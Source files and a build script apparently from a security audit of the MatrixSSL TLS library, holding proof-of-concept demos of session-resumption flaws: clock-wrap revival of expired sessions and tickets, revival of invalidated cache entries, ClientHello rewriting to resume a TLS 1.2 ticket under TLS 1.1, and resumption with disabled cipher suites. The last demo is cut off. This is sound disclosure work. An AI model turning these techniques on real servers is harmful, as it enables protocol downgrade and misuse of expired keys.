        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            if (fromIsServer) { st->srvDone = 1; } else { st->cliDone = 1; }
        }
        if (fromIsServer) { logServerRecords(st, copy, n); }
        if (g_tamper) { n = g_tamper(fromIsServer, copy, n, g_tamperArg); }
        total += n;
        if (to != NULL && n > 0)
        {
            feed(to, !fromIsServer, copy, n, st);
        }
        free(copy);
    }
    return total;
}

/* Pump both directions until quiet. */
static void pump(ssl_t *cli, ssl_t *srv, pumpState_t *st)
{
    int i;
    for (i = 0; i < 50; i++)
    {
        int moved = 0;
        moved += moveOut(cli, srv, 0, st);
        moved += moveOut(srv, cli, 1, st);
        if (moved == 0) { break; }
    }
}

static int sendApp(ssl_t *from, const char *msg)
{
    unsigned char *wb; int32 avail = matrixSslGetWritebuf(from, &wb, (uint32) strlen(msg));
    if (avail < (int32) strlen(msg)) { return -1; }
    memcpy(wb, msg, strlen(msg));
    return matrixSslEncodeWritebuf(from, (uint32) strlen(msg));
}

static sslKeys_t *newServerKeys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) { return NULL; }
    if (matrixSslLoadRsaKeys(k, g_srvCert, g_srvKey, NULL, NULL) < 0)
    {
        fprintf(stderr, "cannot load server keys from %s\n", g_srvCert);
        return NULL;
    }
    return k;
}

static sslKeys_t *newClientKeys(void)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) { return NULL; }
    if (matrixSslLoadRsaKeys(k, NULL, NULL, NULL, g_caCert) < 0)
    {
        fprintf(stderr, "cannot load CA from %s\n", g_caCert);
        return NULL;
    }
    return k;
}

static void hexdump(const char *label, const unsigned char *p, int n)
{
    int i; printf("%s", label);
    for (i = 0; i < n; i++) { printf("%02x", p[i]); }
    printf("\n");
}

#endif
