#!/bin/sh
# Builds all C14 audit demos against the static libraries of the worktree.
# Run `make -j8` at the worktree top level first.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-O1 -g -Wall -Wno-unused-function -I$TOP -I$TOP/core/config -I$TOP/core/include \
 -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -I$TOP/matrixssl -I$TOP/crypto \
 -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DKEYDIR=\"$TOP/testkeys\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for src in "$HERE"/demo[0-9]*.c; do
    exe="${src%.c}"
    echo "cc $(basename "$src")"
    cc $CFLAGS -o "$exe" "$src" $LIBS
done
