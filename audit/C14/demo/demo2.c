/* C14 demo 2: expired sessions become resumable again when the clock advances
   far enough, because the age is computed in a 32-bit millisecond counter.

   core/osdep/POSIX/osdep.c:psDiffMsecs() returns (int32) milliseconds.
   - matrixssl.c:matrixResumeSession() tests  psDiffMsecs(start, now) >
     SSL_SESSION_ENTRY_LIFE (86400000 ms).  After 2^31 ms (24.86 days) the
     difference is negative, so a cache entry older than that is "not expired".
   - tls13DecodeExt.c:tls13ParsePreSharedKey() tests ageMs < 0 || ageMs/1000 >
     ticketLifetime.  After 2^32 ms (49.71 days) ageMs is small and positive
     again, so a TLS 1.3 ticket (lifetime 360 s) is accepted once more.

   The clock is advanced by interposing clock_gettime() in this executable;
   the library itself is unmodified. */
#define _GNU_SOURCE
#include <unistd.h>
#include <sys/syscall.h>
#include "harness.h"

static long long g_skewSecs;

int clock_gettime(clockid_t id, struct timespec *ts)
{
    long rc = syscall(SYS_clock_gettime, id, ts);
    ts->tv_sec += g_skewSecs;
    return (int) rc;
}

static const unsigned char tkName[16] = "C14-ticket-key-2";
static const unsigned char tkSym[32] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16,
                                         17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32 };
static const unsigned char tkMac[32] = { 7 };

static sslKeys_t *skeys, *ckeys;

/* One connection. Returns 1 if the server resumed, 0 if full handshake, -1 on failure. */
static int connectOnce(sslSessionId_t *sid, psProtocolVersion_t ver, psCipher16_t cs,
    unsigned char *msOut, int *dataOk)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t copt, sopt;
    pumpState_t st;
    psProtocolVersion_t v[1];
    psCipher16_t suite[1];
    int resumed;

    v[0] = ver; suite[0] = cs;
    memset(&copt, 0, sizeof(copt)); memset(&sopt, 0, sizeof(sopt));
    matrixSslSessOptsSetServerTlsVersions(&sopt, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&copt, v, 1);
    if (matrixSslNewServerSession(&srv, skeys, NULL, &sopt) < 0) { return -1; }
    if (matrixSslNewClientSession(&cli, ckeys, sid, suite, 1, certCb, NULL, NULL, NULL, &copt) < 0) { return -1; }
    memset(&st, 0, sizeof(st));
    pump(cli, srv, &st);
    if (!st.cliDone || !st.srvDone)
    {
        printf("  handshake failed cliErr=%d srvErr=%d\n", st.cliErr, st.srvErr);
        return -1;
    }
    /* application data round trip; lets a TLS 1.3 server deliver its ticket too */
    sendApp(cli, "hello"); pump(cli, srv, &st);
    sendApp(srv, "world"); pump(cli, srv, &st);
    if (dataOk) { *dataOk = (st.srvAppLen == 5 && st.cliAppLen == 5); }
    resumed = matrixSslIsResumedSession(srv) ? 1 : 0;
    if (msOut) { memcpy(msOut, srv->sec.masterSecret, SSL_HS_MASTER_SIZE); }
    if (ver != v_tls_1_3) { matrixSslGetSessionId(cli, sid); }
    matrixSslEncodeClosureAlert(cli); pump(cli, srv, &st);
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    return resumed;
}

int main(void)
{
    sslSessionId_t *sid = NULL, *sidCopy = NULL;
    unsigned char ms0[SSL_HS_MASTER_SIZE], ms1[SSL_HS_MASTER_SIZE];
    int r, ok, violations = 0;

    if (matrixSslOpen() < 0) { return 2; }
    skeys = newServerKeys(); ckeys = newClientKeys();
    if (!skeys || !ckeys) { return 2; }

    /* ---- A: session id cache, TLS 1.2 ---------------------------------- */
    printf("A: TLS 1.2 session cache, SSL_SESSION_ENTRY_LIFE = %d s\n", SSL_SESSION_ENTRY_LIFE / 1000);
    matrixSslNewSessionId(&sid, NULL); matrixSslNewSessionId(&sidCopy, NULL);
    r = connectOnce(sid, v_tls_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, ms0, NULL);
    printf("  t=0        full handshake, server resumed=%d\n", r);
    if (r != 0) { return 2; }
    memcpy(sidCopy, sid, sizeof(*sid));
    r = connectOnce(sidCopy, v_tls_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, NULL, NULL);
    printf("  t=0        same id again: server resumed=%d (expected 1)\n", r);
    if (r != 1) { printf("BROKEN: honest session id resumption failed\n"); return 3; }

    g_skewSecs = 2 * 86400;
    memcpy(sidCopy, sid, sizeof(*sid));
    r = connectOnce(sidCopy, v_tls_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, NULL, NULL);
    printf("  t=+2 days  same id: server resumed=%d (expected 0: entry is older than one day)\n", r);

    g_skewSecs = 25 * 86400;
    memcpy(sidCopy, sid, sizeof(*sid));
    r = connectOnce(sidCopy, v_tls_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, ms1, &ok);
    printf("  t=+25 days same id: server resumed=%d, master secret equals the 25 day old one=%d, data round trip ok=%d\n",
        r, memcmp(ms0, ms1, sizeof(ms0)) == 0, ok);
    if (r == 1)
    {
        printf("VIOLATION: session id of a cache entry that expired 24 days ago was resumed "
            "(matrixResumeSession: psDiffMsecs wrapped negative)\n");
        violations++;
    }

    /* ---- B: TLS 1.3 ticket ---------------------------------------------- */
    printf("B: TLS 1.3 ticket, TLS_1_3_TICKET_LIFETIME = %d s\n", TLS_1_3_TICKET_LIFETIME);
    g_skewSecs = 0;
    if (matrixSslLoadSessionTicketKeys(skeys, tkName, tkSym, 32, tkMac, 32) < 0) { return 2; }
    matrixSslDeleteSessionId(sid); sid = NULL;
    matrixSslNewSessionId(&sid, NULL);
    r = connectOnce(sid, v_tls_1_3, TLS_AES_128_GCM_SHA256, NULL, NULL);
    printf("  t=0          full handshake, server resumed=%d, client holds psk=%d\n", r, sid->psk != NULL);
    if (r != 0 || sid->psk == NULL) { printf("  setup failed\n"); return violations ? 1 : 2; }
    /* the client keeps presenting the first ticket: make later NewSessionTicket
       messages not replace it by working on a snapshot of the PSK */
    {
        psTls13Psk_t *keep = tls13NewPsk(sid->psk->pskKey, sid->psk->pskLen, sid->psk->pskId,
            sid->psk->pskIdLen, PS_TRUE, sid->psk->params);
        sslSessionId_t *s2;
#define TRY(label, skew, expect) \
        g_skewSecs = (skew); \
        matrixSslNewSessionId(&s2, NULL); \
        s2->psk = tls13NewPsk(keep->pskKey, keep->pskLen, keep->pskId, keep->pskIdLen, PS_TRUE, keep->params); \
        r = connectOnce(s2, v_tls_1_3, TLS_AES_128_GCM_SHA256, NULL, &ok); \
        printf("  %s same ticket: server resumed=%d (expected %d), data ok=%d\n", label, r, expect, ok);

        TRY("t=+10 s      ", 10, 1);
        if (r != 1) { printf("BROKEN: honest TLS 1.3 resumption failed\n"); return 3; }
        TRY("t=+1 hour    ", 3600, 0);
        TRY("t=+30 days   ", 30LL * 86400, 0);
        TRY("t=2^32ms+60s ", 4294967LL + 60, 0);
        if (r == 1)
        {
            printf("VIOLATION: TLS 1.3 ticket with a 360 s lifetime was resumed 49.7 days after it was issued "
                "(tls13ParsePreSharedKey: psDiffMsecs wrapped around)\n");
            violations++;
        }
    }
    if (!violations) { printf("OK: expired cache entries and tickets stay expired\n"); }
    return violations ? 1 : 0;
}
