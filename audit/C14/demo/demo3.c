/* C14 demo 3: a cached session that was invalidated by a fatal alert becomes
   resumable again when another connection of the same session closes.

   matrixssl.c:matrixUpdateSession() is run when a server connection is
   deleted.  With SSL_FLAGS_ERROR (fatal alert received) it wipes the entry's
   master secret and cipher.  But if a second connection resumed from the same
   entry is still open (browsers open several connections on one session), that
   connection's own matrixUpdateSession() at close - no error there, handshake
   done - copies master secret and cipher BACK into the entry.  The entry kept
   its id, so the very identifier that was invalidated resumes again.

   Part 2: the same with a fatal alert SENT by the server
   (sslEncode.c:sslEncodeResponse -> matrixClearSession(ssl, 1)).  That path also
   zeroes the id (except the 4 index bytes); the revived entry then answers to the
   never-issued identifier  index || 00..00. */
#include "harness.h"

static sslKeys_t *skeys, *ckeys;
static psCipher16_t suite[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };

typedef struct { ssl_t *cli, *srv; pumpState_t st; } conn_t;

static int g_noEms;
static int openConn(conn_t *c, sslSessionId_t *sid)
{
    sslSessOpts_t copt, sopt;
    psProtocolVersion_t v[1] = { v_tls_1_2 };

    memset(c, 0, sizeof(*c));
    memset(&copt, 0, sizeof(copt)); memset(&sopt, 0, sizeof(sopt));
    matrixSslSessOptsSetServerTlsVersions(&sopt, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&copt, v, 1);
    if (g_noEms) { copt.extendedMasterSecret = -1; } /* client does not offer extended_master_secret */
    if (matrixSslNewServerSession(&c->srv, skeys, NULL, &sopt) < 0) { return -1; }
    if (matrixSslNewClientSession(&c->cli, ckeys, sid, suite, 1, certCb, NULL, NULL, NULL, &copt) < 0) { return -1; }
    pump(c->cli, c->srv, &c->st);
    if (!c->st.cliDone || !c->st.srvDone) { return -1; }
    return matrixSslIsResumedSession(c->srv) ? 1 : 0;
}

static void closeGracefully(conn_t *c)
{
    matrixSslEncodeClosureAlert(c->cli);
    pump(c->cli, c->srv, &c->st);
    matrixSslDeleteSession(c->cli); matrixSslDeleteSession(c->srv);
    c->cli = c->srv = NULL;
}

static sslSessionId_t *copySid(const sslSessionId_t *sid)
{
    sslSessionId_t *n = NULL;
    matrixSslNewSessionId(&n, NULL);
    n->cipherId = sid->cipherId;
    n->idLen = sid->idLen;
    memcpy(n->id, sid->id, sizeof(n->id));
    memcpy(n->masterSecret, sid->masterSecret, SSL_HS_MASTER_SIZE);
    return n;
}

static int scenario(int serverSendsAlert)
{
    conn_t a, b, b2, x, y;
    sslSessionId_t *sid = NULL, *probe;
    unsigned char ms[SSL_HS_MASTER_SIZE], garbage[37];
    int r, i;

    matrixSslNewSessionId(&sid, NULL);
    r = openConn(&a, sid);
    matrixSslGetSessionId(a.cli, sid);
    memcpy(ms, a.srv->sec.masterSecret, sizeof(ms));
    printf("  A : full handshake, resumed=%d; ", r); hexdump("session id ", sid->id, sid->idLen);
    closeGracefully(&a);

    r = openConn(&b, copySid(sid));   printf("  B : resumed=%d\n", r);
    r = openConn(&b2, copySid(sid));  printf("  B': resumed=%d (both connections of the session are open)\n", r);
    if (r != 1) { return -1; }

    /* a record that does not authenticate */
    garbage[0] = 23; garbage[1] = 3; garbage[2] = 3; garbage[3] = 0; garbage[4] = 32;
    for (i = 5; i < 37; i++) { garbage[i] = (unsigned char) (i * 7); }
    if (serverSendsAlert < 0)
    {
        /* honest control: no alert at all, B just closes */
        closeGracefully(&b);
        closeGracefully(&b2);
        r = openConn(&y, copySid(sid));
        printf("  Y : same id after both connections closed cleanly: resumed=%d (expected 1)\n", r);
        closeGracefully(&y);
        return r;
    }
    if (!serverSendsAlert)
    {
        /* client B trips over it and sends a fatal alert to the server */
        feed(b.cli, 0, garbage, sizeof(garbage), &b.st);
        moveOut(b.cli, b.srv, 0, &b.st);
        printf("  B : server received alert level=%d description=%d\n", b.st.srvAlertLevel, b.st.srvAlert);
    }
    else
    {
        /* server B trips over it and sends a fatal alert */
        feed(b.srv, 1, garbage, sizeof(garbage), &b.st);
        moveOut(b.srv, b.cli, 1, &b.st);
        printf("  B : server sent a fatal alert, client received level=%d description=%d\n",
            b.st.cliAlertLevel, b.st.cliAlert);
    }
    matrixSslDeleteSession(b.cli); matrixSslDeleteSession(b.srv);

    probe = copySid(sid);
    r = openConn(&x, probe);
    printf("  X : same id after the fatal alert: resumed=%d (expected 0: session invalidated)\n", r);
    closeGracefully(&x);

    closeGracefully(&b2);
    printf("  B': closed with close_notify\n");

    probe = copySid(sid);
    if (serverSendsAlert)
    {
        memset(probe->id + 4, 0, SSL_MAX_SESSION_ID_SIZE - 4);
        hexdump("  Y : presenting the never-issued id ", probe->id, probe->idLen);
        /* matrixClearSession also reset the entry's extended-master-secret
           mark, so the forged hello must not offer that extension */
        g_noEms = 1;
    }
    r = openConn(&y, probe);
    g_noEms = 0;
    if (r < 0) { printf("  Y : handshake failed\n"); return 0; }
    sendApp(y.cli, "again"); pump(y.cli, y.srv, &y.st);
    printf("  Y : resumed=%d, master secret equals the invalidated session's=%d, data='%.*s'\n",
        r, memcmp(ms, y.srv->sec.masterSecret, sizeof(ms)) == 0, y.st.srvAppLen, y.st.srvApp);
    i = (r == 1 && memcmp(ms, y.srv->sec.masterSecret, sizeof(ms)) == 0);
    closeGracefully(&y);
    return i;
}

int main(void)
{
    int v = 0, r;

    if (matrixSslOpen() < 0) { return 2; }
    skeys = newServerKeys(); ckeys = newClientKeys();
    if (!skeys || !ckeys) { return 2; }

    printf("Part 0: honest control, two connections of a session, no alert\n");
    r = scenario(-1);
    if (r != 1) { printf("BROKEN: honest resumption after sibling connections closed failed\n"); return 3; }
    printf("Part 1: fatal alert received by the server on one of two connections of a session\n");
    r = scenario(0);
    if (r == 1)
    {
        printf("VIOLATION: the session id invalidated by a fatal alert was resumed again after the "
            "sibling connection closed (matrixUpdateSession re-populated the wiped entry)\n");
        v++;
    }
    printf("Part 2: fatal alert sent by the server on one of two connections of a session\n");
    r = scenario(1);
    if (r == 1)
    {
        printf("VIOLATION: after invalidation the entry was re-populated and resumed with the identifier "
            "index||zeros, which the server never issued\n");
        v++;
    }
    if (!v) { printf("OK: a session invalidated by a fatal alert stays invalid\n"); }
    return v ? 1 : 0;
}
