/* C14 demo 1: a TLS 1.2 session ticket is resumed under TLS 1.1.

   The server checks the version recorded in a (TLS<=1.2) session ticket while
   it parses the session_ticket extension, i.e. against the version derived
   from ClientHello.legacy_version.  When the ClientHello also carries
   supported_versions, the version is re-negotiated AFTER the extensions have
   been parsed (hsDecode.c:parseClientHello -> checkSupportedVersions), and
   the ticket is not looked at again. */
#include "harness.h"

static const unsigned char tkName[16] = "C14-ticket-key-1";
static const unsigned char tkSym[32] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16,
                                         17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32 };
static const unsigned char tkMac[32] = { 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9,
                                         8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8, 8 };

static ssl_t *g_cli2;
static int g_rewritten;
static unsigned char g_svMinor = 0x02; /* version listed in the appended supported_versions */

/* dir 0 = client to server. Rewrites the first ClientHello: legacy_version
   0x0302 -> 0x0303 and appends supported_versions = { 0x0302 }. */
static int rewriteClientHello(int dir, unsigned char *b, int n, void *arg)
{
    unsigned char sv[7] = { 0x00, 0x2b, 0x00, 0x03, 0x02, 0x03, 0x02 };
    int p, extLenPos, v;
    (void) arg;
    if (dir != 0 || g_rewritten || n < 50 || b[0] != 22 || b[5] != 1) { return n; }
    g_rewritten = 1;
    sv[6] = g_svMinor;
    b[9] = 0x03; b[10] = 0x03;                 /* ClientHello.legacy_version */
    p = 11 + 32;                                /* session id */
    p += 1 + b[p];
    p += 2 + ((b[p] << 8) | b[p + 1]);          /* cipher suites */
    p += 1 + b[p];                              /* compression */
    extLenPos = p;
    memcpy(b + n, sv, 7);                       /* caller left 64 spare bytes */
    n += 7;
    v = ((b[extLenPos] << 8) | b[extLenPos + 1]) + 7; b[extLenPos] = v >> 8; b[extLenPos + 1] = v & 0xff;
    v = ((b[7] << 8) | b[8]) + 7; b[7] = v >> 8; b[8] = v & 0xff;       /* handshake length */
    v = ((b[3] << 8) | b[4]) + 7; b[3] = v >> 8; b[4] = v & 0xff;       /* record length */
    hexdump("rewritten ClientHello: ", b, n);
    /* the hello now says 0x0303: use that in an RSA premaster secret too */
    g_cli2->ourHelloVersion = v_tls_1_2;
    sslInitHSHash(g_cli2);
    sslUpdateHSHash(g_cli2, b + 5, n - 5);
    return n;
}

static sslKeys_t *skeys, *ckeys;
static unsigned char g_ticket[256]; static int g_ticketLen;
static unsigned char g_ms[SSL_HS_MASTER_SIZE];
static psCipher16_t suite[1] = { TLS_RSA_WITH_AES_128_CBC_SHA }; /* valid in 1.1 and 1.2 */

static sslSessionId_t *sidWithTicket(void)
{
    sslSessionId_t *sid = NULL;
    matrixSslNewSessionId(&sid, NULL);
    sid->sessionTicket = psMalloc(sid->pool, g_ticketLen);
    memcpy(sid->sessionTicket, g_ticket, g_ticketLen);
    sid->sessionTicketLen = g_ticketLen;
    sid->sessionTicketState = SESS_TICKET_STATE_USING_TICKET;
    sid->cipherId = suite[0];
    memcpy(sid->masterSecret, g_ms, SSL_HS_MASTER_SIZE);
    return sid;
}

/* A TLS 1.1 client presents the TLS 1.2 ticket. rewrite=0: plain TLS 1.1
   ClientHello (control). rewrite=1: legacy_version 1.2 + supported_versions{1.1}.
   Returns 1 if the server resumed under TLS 1.1. */
static int tryTicketVer(const psProtocolVersion_t *srvVers, int nSrvVers, int rewrite, psProtocolVersion_t cliVer)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t copt, sopt;
    pumpState_t st;
    psProtocolVersion_t cliVers[1];
    sslSessionId_t *sid = sidWithTicket();
    int i, res;

    cliVers[0] = cliVer; g_svMinor = (cliVer == v_tls_1_2) ? 0x03 : 0x02;
    memset(&copt, 0, sizeof(copt)); memset(&sopt, 0, sizeof(sopt));
    if (nSrvVers > 0) { matrixSslSessOptsSetServerTlsVersions(&sopt, srvVers, nSrvVers); }
    matrixSslSessOptsSetClientTlsVersions(&copt, cliVers, 1);
    copt.ticketResumption = 1;
    if (matrixSslNewServerSession(&srv, skeys, NULL, &sopt) < 0) { return -1; }
    if (matrixSslNewClientSession(&cli, ckeys, sid, suite, 1, certCb, NULL, NULL, NULL, &copt) < 0) { return -1; }
    /* The peer: a client that speaks TLS 1.1 but writes its ClientHello the
       way a TLS 1.3-era stack does: legacy_version 0x0303 and a
       supported_versions extension (here listing only TLS 1.1).  MatrixSSL's own
       client cannot emit that combination together with a TLS<=1.2 ticket,
       so its ClientHello is rewritten on the wire and the client's handshake
       hash is restarted over the rewritten message. The server is untouched. */
    g_cli2 = cli; g_rewritten = 0; g_tamper = rewrite ? rewriteClientHello : NULL;
    memset(&st, 0, sizeof(st));
    pump(cli, srv, &st);
    g_tamper = NULL;
    printf("    handshake: cliDone=%d srvDone=%d cliErr=%d srvErr=%d alerts=%d/%d\n",
        st.cliDone, st.srvDone, st.cliErr, st.srvErr, st.cliAlert, st.srvAlert);
    printf("    server flight (record type/handshake type):");
    for (i = 0; i < st.srvRecCount && i < 6; i++)
    {
        if (st.srvRecTypes[i] == 20) { printf(" CCS"); }
        else if (i > 0 && st.srvRecTypes[i - 1] == 20) { printf(" 22/encrypted"); }
        else { printf(" %d/%d", st.srvRecTypes[i], st.srvHsTypes[i]); }
    }
    printf("\n");
    printf("    server: negotiated=%s resumed=%d masterSecret==TLS1.2 session's=%d\n",
        (VER_GET_RAW(matrixSslGetNegotiatedVersion(srv)) == v_tls_1_1) ? "TLS1.1" :
        (VER_GET_RAW(matrixSslGetNegotiatedVersion(srv)) == v_tls_1_2) ? "TLS1.2" : "other",
        (int) matrixSslIsResumedSession(srv),
        memcmp(g_ms, srv->sec.masterSecret, SSL_HS_MASTER_SIZE) == 0);
    res = (matrixSslIsResumedSession(srv) && st.srvDone && st.cliDone &&
           VER_GET_RAW(matrixSslGetNegotiatedVersion(srv)) == cliVer);
    if (!st.srvDone || !st.cliDone) { res = -1; }
    if (res)
    {
        sendApp(cli, "ping"); pump(cli, srv, &st);
        printf("    app data over the resumed connection: '%.*s'\n", st.srvAppLen, st.srvApp);
    }
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    return res;
}

static int tryTicket(const psProtocolVersion_t *srvVers, int nSrvVers, int rewrite)
{
    return tryTicketVer(srvVers, nSrvVers, rewrite, v_tls_1_1);
}

int main(void)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessionId_t *sid = NULL;
    sslSessOpts_t copt, sopt;
    pumpState_t st;
    psProtocolVersion_t srvVers[2] = { v_tls_1_2, v_tls_1_1 };
    psProtocolVersion_t cliVers1[1] = { v_tls_1_2 };
    int r, violations = 0, broken = 0;

    if (matrixSslOpen() < 0) { return 2; }
    skeys = newServerKeys(); ckeys = newClientKeys();
    if (!skeys || !ckeys) { return 2; }
    if (matrixSslLoadSessionTicketKeys(skeys, tkName, tkSym, 32, tkMac, 32) < 0) { return 2; }
    matrixSslNewSessionId(&sid, NULL);

    /* 1. full TLS 1.2 handshake, server issues a ticket */
    memset(&copt, 0, sizeof(copt)); memset(&sopt, 0, sizeof(sopt));
    matrixSslSessOptsSetServerTlsVersions(&sopt, srvVers, 2);
    matrixSslSessOptsSetClientTlsVersions(&copt, cliVers1, 1);
    copt.ticketResumption = 1;
    if (matrixSslNewServerSession(&srv, skeys, NULL, &sopt) < 0) { return 2; }
    if (matrixSslNewClientSession(&cli, ckeys, sid, suite, 1, certCb, NULL, NULL, NULL, &copt) < 0) { return 2; }
    memset(&st, 0, sizeof(st));
    pump(cli, srv, &st);
    printf("1. full handshake: cliDone=%d srvDone=%d version=%s resumed(srv)=%d ticketLen=%d\n",
        st.cliDone, st.srvDone,
        (VER_GET_RAW(matrixSslGetNegotiatedVersion(srv)) == v_tls_1_2) ? "TLS1.2" : "other",
        (int) matrixSslIsResumedSession(srv), (int) sid->sessionTicketLen);
    if (!st.cliDone || !st.srvDone || sid->sessionTicketLen == 0 ||
        VER_GET_RAW(matrixSslGetNegotiatedVersion(srv)) != v_tls_1_2)
    {
        printf("setup failed\n"); return 2;
    }
    memcpy(g_ms, srv->sec.masterSecret, SSL_HS_MASTER_SIZE);
    g_ticketLen = sid->sessionTicketLen; memcpy(g_ticket, sid->sessionTicket, g_ticketLen);
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);

    printf("1a. honest: TLS 1.2 ClientHello with the TLS 1.2 ticket, server {1.2,1.1}\n");
    r = tryTicketVer(srvVers, 2, 0, v_tls_1_2);
    printf("    => resumed under TLS 1.2: %d (expected 1)\n", r);
    if (r != 1) { broken++; }
    printf("1b. honest: legacy_version 0x0303 + supported_versions{0x0303} with the TLS 1.2 ticket, default server\n");
    r = tryTicketVer(NULL, 0, 1, v_tls_1_2);
    printf("    => resumed under TLS 1.2: %d (expected 1)\n", r);
    if (r != 1) { broken++; }

    printf("2. control: TLS 1.1 ClientHello (legacy_version 0x0302) with the TLS 1.2 ticket, server {1.2,1.1}\n");
    r = tryTicket(srvVers, 2, 0);
    printf("    => resumed under TLS 1.1: %d (expected 0)\n", r);

    printf("3. legacy_version 0x0303 + supported_versions{0x0302} with the TLS 1.2 ticket, server {1.2,1.1}\n");
    r = tryTicket(srvVers, 2, 1);
    printf("    => resumed under TLS 1.1: %d (expected 0)\n", r);
    if (r == 1) { violations++; }

    printf("4. same ClientHello, server with its default version set (1.3, 1.2, 1.1)\n");
    r = tryTicket(NULL, 0, 1);
    printf("    => resumed under TLS 1.1: %d (expected 0)\n", r);
    if (r == 1) { violations++; }

    if (violations)
    {
        printf("VIOLATION: the ticket of a TLS 1.2 session was resumed in a TLS 1.1 handshake "
            "(%d of 2 server configurations); the ticket's version is only compared with the "
            "version derived from legacy_version, before supported_versions is applied\n", violations);
        return 1;
    }
    if (broken)
    {
        printf("BROKEN: %d honest ticket resumption(s) did not work\n", broken);
        return 3;
    }
    printf("OK: the TLS 1.2 ticket resumes only TLS 1.2 handshakes; the other hellos got a full TLS 1.1 handshake\n");
    return 0;
}
