/* C14 demo 4: resumption from the session cache does not re-check the cached
   cipher suite against what this server session accepts.

   matrixssl.c:matrixResumeSession() takes g_sessionTable[i].cipher as it is;
   hsDecode.c:parseClientHello then only checks that the client listed that
   suite.  The sibling path for tickets (matrixUnlockSessionTicket) goes
   through sslGetCipherSpec(), which refuses suites that were disabled with
   matrixSslSetCipherSuiteEnabledStatus() (per session or globally) or that do
   not fit the negotiated version.  So a suite the server has switched off
   keeps being negotiated by session-id resumption. */
#include "harness.h"

static const unsigned char tkName[16] = "C14-ticket-key-3";
static const unsigned char tkSym[32] = { 3, 1, 4, 1, 5, 9, 2, 6 };
static const unsigned char tkMac[32] = { 2, 7, 1, 8, 2, 8 };

static sslKeys_t *skeys, *ckeys;
#define WEAK   TLS_RSA_WITH_AES_128_CBC_SHA
#define STRONG TLS_RSA_WITH_AES_256_CBC_SHA256

/* Returns negotiated cipher id (server side), sets *resumed. disable: 0 none,
   1 per-session disable of WEAK right after matrixSslNewServerSession. */
static int connectOnce(sslSessionId_t *sid, int useTicket, int disable,
    const psCipher16_t *suites, int nSuites, int *resumed)
{
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t copt, sopt;
    pumpState_t st;
    psProtocolVersion_t v[1] = { v_tls_1_2 };
    uint32 cid = 0;

    memset(&copt, 0, sizeof(copt)); memset(&sopt, 0, sizeof(sopt));
    matrixSslSessOptsSetServerTlsVersions(&sopt, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&copt, v, 1);
    copt.ticketResumption = useTicket;
    if (matrixSslNewServerSession(&srv, skeys, NULL, &sopt) < 0) { return -1; }
    if (disable == 1)
    {
        if (matrixSslSetCipherSuiteEnabledStatus(srv, WEAK, PS_FALSE) < 0) { return -1; }
    }
    if (matrixSslNewClientSession(&cli, ckeys, sid, suites, nSuites, certCb, NULL, NULL, NULL, &copt) < 0) { return -1; }
    memset(&st, 0, sizeof(st));
    pump(cli, srv, &st);
    if (!st.cliDone || !st.srvDone)
    {
        printf("    handshake failed: cliErr=%d srvErr=%d alerts=%d/%d\n", st.cliErr, st.srvErr, st.cliAlert, st.srvAlert);
        matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
        return -1;
    }
    sendApp(cli, "hello"); pump(cli, srv, &st);
    *resumed = matrixSslIsResumedSession(srv) ? 1 : 0;
    cid = srv->cipher->ident;
    matrixSslGetSessionId(cli, sid);
    matrixSslEncodeClosureAlert(cli); pump(cli, srv, &st);
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    return (int) cid;
}

int main(void)
{
    sslSessionId_t *sidId = NULL, *sidTicket = NULL, *fresh = NULL, *tmp = NULL;
    psCipher16_t weakOnly[1] = { WEAK };
    psCipher16_t both[2] = { WEAK, STRONG };
    int c, resumed = 0, violations = 0;

    if (matrixSslOpen() < 0) { return 2; }
    skeys = newServerKeys(); ckeys = newClientKeys();
    if (!skeys || !ckeys) { return 2; }
    if (matrixSslLoadSessionTicketKeys(skeys, tkName, tkSym, 32, tkMac, 32) < 0) { return 2; }
    matrixSslNewSessionId(&sidId, NULL); matrixSslNewSessionId(&sidTicket, NULL);
    matrixSslNewSessionId(&fresh, NULL); matrixSslNewSessionId(&tmp, NULL);

    printf("suite WEAK=0x%04x, STRONG=0x%04x\n", WEAK, STRONG);
    c = connectOnce(sidId, 0, 0, weakOnly, 1, &resumed);
    printf("1. full handshake (session id):  cipher=0x%04x resumed=%d\n", c, resumed);
    if (c != WEAK) { return 2; }
    c = connectOnce(sidTicket, 1, 0, weakOnly, 1, &resumed);
    printf("2. full handshake (ticket):      cipher=0x%04x resumed=%d ticketLen=%d\n", c, resumed, (int) sidTicket->sessionTicketLen);
    if (c != WEAK || sidTicket->sessionTicketLen == 0) { return 2; }

    printf("-- from now on every new server session disables WEAK with "
